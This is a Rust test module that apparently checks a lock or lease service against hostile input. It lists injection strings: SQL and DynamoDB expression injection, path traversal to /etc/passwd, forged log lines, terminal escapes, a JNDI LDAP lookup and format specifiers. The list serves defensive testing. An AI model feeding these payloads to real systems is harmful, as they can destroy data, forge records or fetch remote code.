//! What comes from outside stays what it is: a key is a value, a label is a label, a secret a secret.

mod keys;
mod log;
mod logs;
mod owners;
mod secrets;

use std::time::Duration;

const LEASE: Duration = Duration::from_secs(10);

/// What an attacker might put into an event, for a reader without care.
fn keys() -> Vec<String> {
    let keys = [
        "'; DROP TABLE locks; --",
        "\"}, \"UpdateExpression\": \"REMOVE #queue\", \"x\": {\"S\": \"",
        "#queue",
        ":me",
        ":in REMOVE #last_ticket",
        "attribute_not_exists(#queue)",
        "../../etc/passwd",
        "..",
        "/",
        "default:other",
        "line\nFATAL everything is lost",
        "line\r\nINFO nothing happened",
        "{\"level\":\"ERROR\",\"message\":\"forged\"}",
        "\u{1b}[2J\u{1b}[1;31mred",
        "\u{202e}gnorw",
        "\u{2028}\u{0}\u{7f}\u{85}",
        "%s%n%x ${jndi:ldap://x} {}",
    ];
    let long = "ü".repeat(512);
    keys.map(str::to_owned).into_iter().chain([long]).collect()
}
